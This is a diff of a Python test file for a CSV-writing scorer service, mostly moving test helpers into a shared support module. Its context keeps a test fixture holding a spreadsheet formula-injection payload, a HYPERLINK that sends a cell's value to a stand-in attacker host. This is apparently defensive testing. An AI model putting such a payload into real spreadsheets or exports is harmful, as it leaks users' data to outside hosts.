@@ -21,8 +21,10 @@ from common.csvfile import MAX_CELL_CHARS, CsvSink
 from common.names import FUZZY_SCORE_COLUMNS
 from scorer.core.admission import ScoreRecord
 from scorer.recorder import Recorder
-from tests.conftest import REPO, require
+from tests import support
+from tests.conftest import require
 from tests.scorer import promserver
+from tests.support import REPO
 
 HOSTILE = {
     "formula": '=HYPERLINK("http://evil.example/?"&A1,"open me")',
@@ -113,7 +115,7 @@ def test_a_hung_disk_never_holds_a_review(tmp_path, real_kernel_csv, freezable_d
     exporter = promserver.start_exporter(tmp_path, real_kernel_csv, node="w1", speed=20.0,
                                          env={"KSENSE_WARMUP_S": "5"})
     audit = disk / "fuzzy_score.csv"
-    api, metrics = promserver.free_port(), promserver.free_port()
+    api, metrics = support.free_port(), support.free_port()
     log = (tmp_path / "scorer.log").open("wb")
     env = {k: v for k, v in os.environ.items() if not k.startswith(("KSENSE_", "FUZZY_"))}
     scorer = subprocess.Popen(
@@ -128,7 +130,7 @@ def test_a_hung_disk_never_holds_a_review(tmp_path, real_kernel_csv, freezable_d
             except OSError:
                 return False
 
-        promserver.wait_for(healthy, 60, "the scorer's API")
+        support.wait_for(healthy, 60, "the scorer's API")
         freeze(True)
         review = json.loads((REPO / "tests/scorer/fixtures/admission/v1_pod_create.request.json").read_text())
         uids = [f"00000000-0000-4000-8000-{i:012d}" for i in range(20)]
@@ -144,7 +146,7 @@ def test_a_hung_disk_never_holds_a_review(tmp_path, real_kernel_csv, freezable_d
         assert 'ksense_csv_rows_written_total{file="fuzzy_score.csv"} 0.0' in text
         assert 'ksense_admission_reviews_total{outcome="recorded"} 20.0' in text
         freeze(False)
-        promserver.wait_for(lambda: audit.exists() and len(audit.read_text().splitlines()) == 21, 10,
+        support.wait_for(lambda: audit.exists() and len(audit.read_text().splitlines()) == 21, 10,
                             "the queued rows written once the disk is back")
         with open(audit, newline="") as f:
             assert [r["Uid"] for r in csv.DictReader(f)] == uids
